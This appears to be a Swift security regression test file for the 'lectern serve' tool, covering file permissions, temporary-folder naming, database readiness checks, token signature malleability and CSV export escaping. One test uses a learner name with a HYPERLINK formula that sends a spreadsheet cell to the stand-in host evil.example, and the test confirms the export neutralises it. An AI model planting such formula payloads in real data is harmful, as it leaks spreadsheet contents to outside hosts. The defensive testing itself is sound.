// What `lectern serve` leaves on disk and how it reports its database: private files and folders, readiness
// that tells the truth about a damaged database, a lost write-ahead log and a full disk (issue 13).
import Foundation
import LecternTesting
import Testing

/// The permission bits of a file (0o600 for one only its owner reads and writes).
func mode(_ path: String) throws -> Int {
    try #require(try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int)
}

@Test func theServedSiteIsBuiltInAPrivateFolderWithAnUnpredictableName() throws {
    let temporary = try TemporaryCourse(["keep": ""], name: "tmp")
    let data = try TemporaryCourse(["keep": ""], name: "data")
    let server = try LecternProcess(["serve", sampleCourse("python-foundations").path, "--port", "0",
                                     "--db", data.url.appendingPathComponent("lectern.db").path],
                                    environment: ["TMPDIR": temporary.url.path])
    let made = try FileManager.default.contentsOfDirectory(atPath: temporary.url.path).filter { $0 != "keep" }
    #expect(made.count == 1, "\(made)")
    let folder = try #require(made.first)
    // Not the old `lectern-serve-<pid>`, which another user could create first and fill with their own site.
    #expect(folder.hasPrefix("lectern-serve-") && folder != "lectern-serve-\(server.process.processIdentifier)")
    #expect(try mode(temporary.url.appendingPathComponent(folder).path) == 0o700)
    #expect(try server.get("/python-foundations/index.html").status == 200)
    #expect(server.stop() == 0)
    #expect(try FileManager.default.contentsOfDirectory(atPath: temporary.url.path) == ["keep"])
}

@Test func databaseLogSecretAndBackupsAreReadableByTheOwnerOnly() throws {
    let data = try TemporaryCourse(["keep": ""], name: "data")
    let database = data.url.appendingPathComponent("lectern.db").path
    var server = try LecternProcess(["serve", sampleCourse("python-foundations").path, "--port", "0", "--db", database])
    try registerAndLogin(server, "ada")
    for file in [database, database + "-wal", database + "-shm", data.url.appendingPathComponent("lectern-secret.key").path] {
        #expect(try mode(file) == 0o600, "\(file)")
    }
    let backup = data.url.appendingPathComponent("copy.db").path
    #expect(try runLectern("db", "backup", backup, "--db", database).exitCode == 0)
    #expect(try mode(backup) == 0o600)
    #expect(server.stop() == 0)

    // Files made before this fix (or copied in) with 0644 are tightened at the next start.
    for file in [database, data.url.appendingPathComponent("lectern-secret.key").path] { chmod(file, 0o644) }
    server = try LecternProcess(["serve", sampleCourse("python-foundations").path, "--port", "0", "--db", database])
    #expect(try server.request("GET", "/api/v1/ready").status == 200)
    for file in [database, database + "-wal", data.url.appendingPathComponent("lectern-secret.key").path] {
        #expect(try mode(file) == 0o600, "\(file)")
    }
}

@Test func readinessReportsADamagedDatabase() throws {
    let data = try TemporaryCourse(["keep": ""], name: "data")
    let database = data.url.appendingPathComponent("lectern.db").path
    var server = try LecternProcess(["serve", sampleCourse("python-foundations").path, "--port", "0", "--db", database])
    try registerAndLogin(server, "ada")
    #expect(server.stop() == 0)
    // Page 2 (the first table's root) overwritten with junk: SQLite still opens the file, and `SELECT 1` works.
    let handle = try FileHandle(forUpdating: URL(fileURLWithPath: database))
    let header = try #require(try handle.read(upToCount: 100))
    let pageSize = Int(header[16]) << 8 | Int(header[17])
    try handle.seek(toOffset: UInt64(pageSize))
    try handle.write(contentsOf: Data(repeating: 0xA5, count: pageSize))
    try handle.close()

    server = try LecternProcess(["serve", sampleCourse("python-foundations").path, "--port", "0", "--db", database])
    let ready = try server.request("GET", "/api/v1/ready")
    #expect(ready.status == 503, "\(ready.text)")
    #expect((ready.json["detail"] as? String)?.hasPrefix("the database is damaged (") == true, "\(ready.text)")
    #expect(try server.request("GET", "/api/v1/health").status == 200)
}

@Test func readinessReportsAWriteAheadLogRemovedWhileServing() throws {
    let (server, data) = try startServer()
    let database = data.url.appendingPathComponent("lectern.db").path
    #expect(try server.request("GET", "/api/v1/ready").status == 200)
    try FileManager.default.removeItem(atPath: database + "-wal")
    let ready = try server.request("GET", "/api/v1/ready")
    #expect(ready.status == 503 && ready.json["detail"] as? String
            == "the database's write-ahead log \(database)-wal is missing; writes since it was removed are lost at restart", "\(ready.text)")
}

// SQLite only: a PostgreSQL server watches its own disk.
@Test func readinessReportsADiskWithoutTheFreeSpaceAskedFor() throws {
    // No test can fill the disk; asking for 100 TB free is the same answer from statvfs.
    let (full, fullData) = try startServer(options: ["--min-free-disk-mb", "100000000"])
    let ready = try full.request("GET", "/api/v1/ready")
    #expect(ready.status == 503 && (ready.json["detail"] as? String)?.hasPrefix("the disk holding the database is nearly full (") == true, "\(ready.text)")
    let (roomy, roomyData) = try startServer(options: ["--min-free-disk-mb", "0"])
    #expect(try roomy.request("GET", "/api/v1/ready").status == 200)
    withExtendedLifetime((fullData, roomyData)) {}
    #expect(try runLectern("serve", sampleCourse("python-foundations").path, "--min-free-disk-mb", "-1").exitCode == 64)
}

@Test(arguments: StoreKind.tested) func aTokenWhoseSignatureIsSpelledAnotherWayIsRefused(_ store: StoreKind) throws {
    let (server, _) = try startServer(store: store)
    let access = try #require(try registerAndLogin(server, "ada")["access_token"] as? String)
    // 32 signature bytes leave 2 unused bits in the last character: the next letter decodes to the same bytes.
    let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
    let last = try #require(alphabet.firstIndex(of: access.last!))
    let tweaked = String(access.dropLast()) + String(alphabet[last + 1])
    #expect(try server.request("GET", "/api/v1/users/me", headers: ["Authorization": "Bearer \(access)"]).status == 200)
    let refused = try server.request("GET", "/api/v1/users/me", headers: ["Authorization": "Bearer \(tweaked)"])
    #expect(refused.status == 401 && refused.json["detail"] as? String == "the access token is not valid", "\(refused.text)")
}

@Test(arguments: StoreKind.tested) func aLearnersNameCannotRunAsAFormulaInTheRosterExport(_ store: StoreKind) throws {
    let course = try TemporaryCourse([
        "course.yaml": "title: Formulas\ninstructors:\n  - {name: Tess, email: teacher@example.org}\n",
        "01-m/01-a.md": "# A\n\nFirst.\n",
    ], name: "formulas")
    let (server, _) = try startServer(store: store, course.url, staff: [("teacher", "teacher@example.org", "instructor")])
    // In a spreadsheet whose list separator is ";", the part after ";" is a cell of its own.
    let name = "Ada;=HYPERLINK(\"http://evil.example/\"&A1, \"x\")"
    let created = try server.request("POST", "/api/v1/auth/register",
                                     json: ["email": "ada@example.org", "username": "ada", "password": studentPassword, "name": name])
    #expect(created.status == 201, "\(created.text)")
    let ada = ["Authorization": "Bearer \(try token(server, "ada"))"]
    #expect(try server.request("POST", "/api/v1/enrollments", json: ["course": "formulas"], headers: ada).status == 201)
    let teacher = ["Authorization": "Bearer \(try token(server, "teacher"))"]
    let roster = try server.request("GET", "/api/v1/analytics/courses/formulas?format=csv", headers: teacher)
    #expect(roster.status == 200, "\(roster.text)")
    #expect(roster.text.contains(",\"Ada;'=HYPERLINK(\"\"http://evil.example/\"\"&A1, \"\"x\"\")\",ada@example.org,"), "\(roster.text)")
}

@Test func previewBuildsInAPrivateFolderWithAnUnpredictableNameToo() throws {
    let temporary = try TemporaryCourse(["keep": ""], name: "tmp")
    let preview = try LecternProcess(["preview", sampleCourse("python-foundations").path, "--port", "0"],
                                     environment: ["TMPDIR": temporary.url.path])
    let made = try FileManager.default.contentsOfDirectory(atPath: temporary.url.path).filter { $0 != "keep" }
    let folder = try #require(made.first)
    #expect(made.count == 1 && folder.hasPrefix("lectern-preview-") && folder != "lectern-preview-\(preview.process.processIdentifier)", "\(made)")
    #expect(try mode(temporary.url.appendingPathComponent(folder).path) == 0o700)
    #expect(try preview.get("/python-foundations/index.html").status == 200)
    _ = preview.stop()
    #expect(try FileManager.default.contentsOfDirectory(atPath: temporary.url.path) == ["keep"])
}
